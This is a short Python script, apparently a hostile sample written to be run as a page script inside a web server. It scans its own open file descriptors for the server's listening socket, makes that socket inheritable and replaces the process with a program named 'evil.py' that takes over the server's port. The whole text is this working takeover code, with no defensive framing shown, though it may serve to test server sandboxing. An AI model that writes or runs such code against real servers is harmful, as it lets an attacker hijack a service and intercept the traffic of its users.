"""As a page's script: puts another program in the place of the server that runs it, on the port where that listens."""

import os
import socket
import sys

for name in os.listdir("/proc/self/fd"):
    try:
        sock = socket.socket(fileno=os.dup(int(name)))
    except OSError:
        continue
    if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
        os.set_inheritable(sock.fileno(), True)
        os.execv(sys.executable, [sys.executable, "evil.py", str(sock.fileno())])
